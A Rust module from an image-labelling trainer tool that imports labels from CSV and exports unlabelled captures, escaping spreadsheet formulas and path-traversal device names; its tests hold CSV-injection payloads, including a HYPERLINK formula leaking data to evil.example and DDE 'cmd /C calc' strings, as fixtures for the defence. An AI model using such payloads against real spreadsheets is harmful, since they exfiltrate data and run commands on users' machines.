//! Labelling a capture table (`trainer label`): labels from a `path,label` CSV, or the
//! unlabelled rows out to a CSV and image files for whatever labelling tool is at hand.

use std::collections::{BTreeSet, HashMap};
use std::path::{Path, PathBuf};

use kestrel_shared::protocol::{check_name, sha256_hex};

use super::delta_write::CaptureRow;

#[derive(Debug, thiserror::Error)]
pub enum LabelError {
    #[error("{}", path.display())]
    Csv {
        path: PathBuf,
        #[source]
        source: csv::Error,
    },
    #[error("{}", path.display())]
    Io {
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
    #[error("{}: no `{name}` column; columns are: {columns}", path.display())]
    NoColumn {
        path: PathBuf,
        name: &'static str,
        columns: String,
    },
    #[error("{}: line {line}: no row `{row}` in the table", path.display())]
    NoRow {
        path: PathBuf,
        line: u64,
        row: String,
    },
    #[error(
        "{}: line {line}: `{label}` is not a class (known: {known}); --add-classes adds it",
        path.display()
    )]
    NotAClass {
        path: PathBuf,
        line: u64,
        label: String,
        known: String,
    },
}

fn csv_err(path: &Path) -> impl FnOnce(csv::Error) -> LabelError + '_ {
    move |source| LabelError::Csv {
        path: path.to_path_buf(),
        source,
    }
}

fn io_err(path: &Path) -> impl FnOnce(std::io::Error) -> LabelError + '_ {
    move |source| LabelError::Io {
        path: path.to_path_buf(),
        source,
    }
}

/// Fills labels from `csv`; returns how many rows got one. Every path must be a row of the table
/// and every label a known class (unless `add_classes`); nothing is changed otherwise.
pub fn apply_labels(
    rows: &mut [CaptureRow],
    csv: &Path,
    add_classes: bool,
) -> Result<usize, LabelError> {
    let mut known: BTreeSet<String> = rows.iter().filter_map(|r| r.label.clone()).collect();
    known.extend(rows.iter().map(|r| r.predicted.clone()));
    let index: HashMap<String, usize> = rows
        .iter()
        .enumerate()
        .map(|(i, r)| (r.path.clone(), i))
        .collect();
    let mut reader = csv::ReaderBuilder::new()
        .trim(csv::Trim::All)
        .from_path(csv)
        .map_err(csv_err(csv))?;
    let headers = reader.headers().map_err(csv_err(csv))?.clone();
    let col = |name: &'static str| {
        headers
            .iter()
            .position(|h| h == name)
            .ok_or_else(|| LabelError::NoColumn {
                path: csv.to_path_buf(),
                name,
                columns: headers.iter().collect::<Vec<_>>().join(", "),
            })
    };
    let (pi, li) = (col("path")?, col("label")?);
    let mut updates = Vec::new();
    for rec in reader.records() {
        let rec = rec.map_err(csv_err(csv))?;
        let line = rec.position().map_or(0, |p| p.line());
        let (path, label) = (
            unescape_cell(rec.get(pi).unwrap_or("")),
            rec.get(li).unwrap_or(""),
        );
        if label.is_empty() {
            continue;
        }
        let Some(&i) = index.get(path) else {
            return Err(LabelError::NoRow {
                path: csv.to_path_buf(),
                line,
                row: path.to_string(),
            });
        };
        if !add_classes && !known.contains(label) {
            return Err(LabelError::NotAClass {
                path: csv.to_path_buf(),
                line,
                label: label.to_string(),
                known: known.iter().cloned().collect::<Vec<_>>().join(", "),
            });
        }
        updates.push((i, label.to_string()));
    }
    for (i, label) in &updates {
        rows[*i].label = Some(label.clone());
    }
    Ok(updates.len())
}

/// A cell for a spreadsheet (the OWASP CSV-injection rule): one that begins with `=`, `+`, `-`,
/// `@`, a tab or a carriage return is prefixed with `'`, so a formula from a device stays text
/// on the labeller's machine. One that begins with `'` gets another, so [`unescape_cell`]
/// undoes it exactly. Quoting (commas, quotes, newlines) is the CSV writer's.
fn escape_cell(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\'') => format!("'{cell}").into(),
        _ => cell.into(),
    }
}

/// A cell as [`export_todo`] wrote it, before [`escape_cell`].
fn unescape_cell(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

/// Where a row's image goes under the images directory, without its extension: `DEVICE/ID`,
/// distinct for distinct rows (device ids and capture ids are checked names: no `/`, at most 64
/// characters); a row whose device or id is not such a name (written before they were checked)
/// goes to `_/` under the first 16 hex digits of its path's sha256.
fn image_stem(r: &CaptureRow) -> String {
    let id = r.path.strip_prefix(&format!("{}/", r.device));
    match id {
        Some(id) if check_name(&r.device).is_ok() && check_name(id).is_ok() => {
            format!("{}/{id}", r.device)
        }
        _ => format!("_/{}", &sha256_hex(r.path.as_bytes())[..16]),
    }
}

/// Writes the unlabelled rows and their images; returns how many.
pub fn export_todo(rows: &[CaptureRow], csv: &Path) -> Result<usize, LabelError> {
    let stem = csv.file_stem().unwrap_or_default().to_string_lossy();
    let images = csv.with_file_name(format!("{stem}-images"));
    std::fs::create_dir_all(&images).map_err(io_err(&images))?;
    let mut w = csv::Writer::from_path(csv).map_err(csv_err(csv))?;
    w.write_record([
        "path",
        "file",
        "device",
        "model",
        "version",
        "predicted",
        "score",
        "reason",
        "captured_at",
        "label",
    ])
    .map_err(csv_err(csv))?;
    let mut n = 0;
    for r in rows.iter().filter(|r| r.label.is_none()) {
        let ext = image::guess_format(&r.content)
            .ok()
            .and_then(|f| f.extensions_str().first().copied())
            .unwrap_or("bin");
        let name = format!("{}.{ext}", image_stem(r));
        let file = images.join(&name);
        if let Some(dir) = file.parent() {
            std::fs::create_dir_all(dir).map_err(io_err(dir))?;
        }
        std::fs::write(&file, &r.content).map_err(io_err(&file))?;
        let at = chrono::DateTime::from_timestamp_micros(r.captured_at)
            .map(|t| t.to_rfc3339())
            .unwrap_or_default();
        let cells = [
            r.path.as_str(),
            &format!("{stem}-images/{name}"),
            &r.device,
            &r.model,
            &r.version.to_string(),
            &r.predicted,
            &r.score.to_string(),
            &r.reason,
            &at,
            "",
        ];
        w.write_record(cells.map(escape_cell).iter().map(|c| c.as_bytes()))
            .map_err(csv_err(csv))?;
        n += 1;
    }
    w.flush().map_err(io_err(csv))?;
    Ok(n)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn row(path: &str, model: &str, predicted: &str, reason: &str) -> CaptureRow {
        CaptureRow {
            content: vec![0; 4],
            path: path.into(),
            device: path.split('/').next().unwrap_or_default().into(),
            model: model.into(),
            version: 1,
            predicted: predicted.into(),
            score: 0.5,
            reason: reason.into(),
            captured_at: 0,
            label: None,
        }
    }

    #[test]
    fn formula_cells_are_escaped_and_the_rest_kept() {
        for (cell, out) in [
            ("=1+1", "'=1+1"),
            ("+cmd", "'+cmd"),
            ("-2", "'-2"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("'x", "''x"),
            ("cat", "cat"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(escape_cell(cell), out);
            assert_eq!(unescape_cell(&escape_cell(cell)), cell);
        }
    }

    /// Device-chosen strings that a spreadsheet would run: every one is text in the export, quoted
    /// where it has commas, quotes or newlines, and the exported paths label their rows again.
    #[test]
    fn hostile_cells_are_exported_as_text_and_read_back() {
        let dir = tempfile::tempdir().unwrap();
        let csv = dir.path().join("todo.csv");
        let hyperlink = r#"=HYPERLINK("http://evil.example/?d="&A1,"click")"#;
        let mut rows = vec![
            row(
                "-dev/1-1",
                hyperlink,
                "+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
            ),
            row("pi/1-2", "m", "say \"hi\",\nthen=1", "\t=1+1"),
        ];
        assert_eq!(export_todo(&rows, &csv).unwrap(), 2);
        let text = std::fs::read_to_string(&csv).unwrap();
        assert!(text.contains("\"say \"\"hi\"\",\nthen=1\""), "{text}");
        let mut reader = csv::Reader::from_path(&csv).unwrap();
        let got: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        let cells = |i: usize| [0, 2, 3, 5, 7].map(|c| got[i][c].to_string());
        assert_eq!(
            cells(0),
            [
                "'-dev/1-1".to_string(),
                "'-dev".into(),
                format!("'{hyperlink}"),
                "'+cmd|' /C calc'!A0".into(),
                "'@SUM(1+1)*cmd|' /C calc'!A0".into(),
            ]
        );
        assert_eq!(cells(1)[3..], ["say \"hi\",\nthen=1", "'\t=1+1"]);
        for (i, first) in got.iter().flat_map(|r| r.iter()).enumerate() {
            assert!(
                !first.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "cell {i}: {first}"
            );
        }
        let filled = dir.path().join("filled.csv");
        std::fs::write(&filled, "path,label\n'-dev/1-1,cat\n").unwrap();
        assert_eq!(apply_labels(&mut rows, &filled, true).unwrap(), 1);
        assert_eq!(rows[0].label.as_deref(), Some("cat"));
    }

    #[test]
    fn apply_labels_fills_labelled_lines_and_leaves_empty_cells_alone() {
        let dir = tempfile::tempdir().unwrap();
        let csv = dir.path().join("labels.csv");
        let mut rows = vec![
            row("cam/1-1", "m", "cat", "random"),
            row("cam/1-2", "m", "dog", "random"),
            row("cam/1-3", "m", "cat", "random"),
        ];
        // Columns found by name among others; cells trimmed.
        std::fs::write(
            &csv,
            "label,path,note\ndog,cam/1-1,x\n,cam/1-2,y\ncat , cam/1-3 ,z\n",
        )
        .unwrap();
        assert_eq!(apply_labels(&mut rows, &csv, false).unwrap(), 2);
        let labels: Vec<Option<&str>> = rows.iter().map(|r| r.label.as_deref()).collect();
        assert_eq!(labels, [Some("dog"), None, Some("cat")]);
    }

    #[test]
    fn an_unknown_class_or_row_is_refused_with_its_line_and_nothing_changes() {
        let dir = tempfile::tempdir().unwrap();
        let csv = dir.path().join("labels.csv");
        let mut rows = vec![
            row("cam/1-1", "m", "cat", "random"),
            row("cam/1-2", "m", "dog", "random"),
        ];
        rows[1].label = Some("bird".into());
        std::fs::write(&csv, "path,label\ncam/1-1,dog\ncam/1-2,zebra\n").unwrap();
        let e = apply_labels(&mut rows, &csv, false).unwrap_err();
        assert!(
            matches!(&e, LabelError::NotAClass { line: 3, label, known, .. }
                if label == "zebra" && known == "bird, cat, dog"),
            "{e}"
        );
        assert!(
            e.to_string().ends_with(
                "line 3: `zebra` is not a class (known: bird, cat, dog); --add-classes adds it"
            ),
            "{e}"
        );
        assert_eq!(
            rows[0].label, None,
            "the valid line 2 is not applied either"
        );
        assert_eq!(apply_labels(&mut rows, &csv, true).unwrap(), 2);
        assert_eq!(rows[1].label.as_deref(), Some("zebra"));
        std::fs::write(&csv, "path,label\ncam/9-9,cat\n").unwrap();
        let e = apply_labels(&mut rows, &csv, true).unwrap_err();
        assert!(
            matches!(&e, LabelError::NoRow { line: 2, row: r, .. } if r == "cam/9-9"),
            "{e}"
        );
        std::fs::write(&csv, "path,class\ncam/1-1,cat\n").unwrap();
        let e = apply_labels(&mut rows, &csv, true).unwrap_err();
        assert!(
            matches!(&e, LabelError::NoColumn { name: "label", columns, .. } if columns == "path, class"),
            "{e}"
        );
    }

    #[test]
    fn export_todo_writes_unlabelled_rows_and_their_images_under_device_and_id() {
        let dir = tempfile::tempdir().unwrap();
        let csv = dir.path().join("todo.csv");
        let png = b"\x89PNG\r\n\x1a\nrest".to_vec();
        let mut a = row("cam-1/170-1", "m", "cat", "random");
        a.content = png.clone();
        let mut b = row("cam-1/170-2", "m", "dog", "random");
        b.label = Some("dog".into());
        let c = row("../x/170-3", "m", "cat", "random"); // device `..` is no name: hashed under `_/`
        assert_eq!(export_todo(&[a, b, c.clone()], &csv).unwrap(), 2);
        let images = dir.path().join("todo-images");
        assert_eq!(std::fs::read(images.join("cam-1/170-1.png")).unwrap(), png);
        let hashed = format!("_/{}.bin", &sha256_hex(c.path.as_bytes())[..16]);
        assert_eq!(std::fs::read(images.join(&hashed)).unwrap(), vec![0u8; 4]);
        let mut reader = csv::Reader::from_path(&csv).unwrap();
        let got: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(got.len(), 2, "the labelled row is not exported");
        let cells = |i: usize| [1, 8, 9].map(|k| got[i][k].to_string());
        assert_eq!(
            cells(0),
            [
                "todo-images/cam-1/170-1.png",
                "1970-01-01T00:00:00+00:00",
                ""
            ]
        );
        assert_eq!(cells(1)[0], format!("todo-images/{hashed}"));
    }
}
